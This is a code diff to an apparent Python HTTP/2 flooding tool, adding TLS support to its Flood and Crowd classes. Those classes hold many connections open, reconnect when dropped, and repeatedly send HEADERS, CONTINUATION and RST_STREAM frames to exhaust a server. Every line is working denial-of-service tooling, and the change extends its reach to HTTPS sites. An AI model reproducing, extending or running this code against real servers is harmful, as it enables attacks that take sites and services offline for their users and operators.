@@ -5,11 +5,13 @@ connections, and connect anew when they are thrown out."""
 import itertools
 import random
 import socket
+import ssl
 import struct
 import threading
 import time
 
 from . import hpack
+from .connect import Tls, connect
 from .http2 import CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM
 from .http2 import SETTINGS, WINDOW_UPDATE, frame_octets
 
@@ -94,7 +96,7 @@ class Flood:
     def _run(self, attack):
         while not self._stop.is_set():
             try:
-                with socket.create_connection(self._where, 5) as sock:
+                with connect(self._where, 5) as sock:
                     self.connects += 1
                     sock.settimeout(0.5)
                     self._send(sock, *attack)
@@ -103,17 +105,29 @@ class Flood:
 
     def _send(self, sock, start, block, repeats):
         sock.sendall(start)
-        if self._reads:
+        if self._reads and not isinstance(sock, ssl.SSLSocket):
             threading.Thread(target=self._drain, args=(sock,), daemon=True).start()
         while not self._stop.is_set():
             view = memoryview(block)
             while view and not self._stop.is_set():
-                sent = sock.send(view[:65536])
+                sent = self._send_some(sock, view[:65536])
                 self.octets += sent
                 view = view[sent:]
             if not repeats:
                 self._wait_for_end(sock)
                 return
+
+    def _send_some(self, sock, octets):
+        """A TLS connection bears one thread at a time: it is read in between."""
+        if self._reads and isinstance(sock, ssl.SSLSocket):
+            sock.settimeout(0)
+            try:
+                if not sock.recv(1 << 16):
+                    raise ConnectionError
+            except ssl.SSLWantReadError:
+                pass
+            sock.settimeout(0.5)
+        return sock.send(octets)
 
     def _wait_for_end(self, sock):
         """All streams are used; what has been sent is being worked on."""
@@ -151,16 +165,19 @@ class Crowd:
             sock.close()
 
     def _connect(self):
-        sock = socket.socket()
-        if self._receive_buffer:
-            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self._receive_buffer)
-        sock.settimeout(2)
-        sock.connect(self._where)
+        if isinstance(self._where, Tls):
+            sock = connect(self._where, 2)
+        else:
+            sock = socket.socket()
+            if self._receive_buffer:
+                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self._receive_buffer)
+            sock.settimeout(2)
+            sock.connect(self._where)
         sock.setblocking(False)
         self.connects += 1
         try:
             sock.send(self._begin)
-        except BlockingIOError:
+        except (BlockingIOError, ssl.SSLWantWriteError):
             pass
         return sock
 
@@ -176,7 +193,7 @@ class Crowd:
                     self._socks[index] = self._connect()
                 elif self._more:
                     sock.send(self._more)
-            except BlockingIOError:
+            except (BlockingIOError, ssl.SSLWantWriteError):
                 pass
             except OSError:
                 self._forget(index)
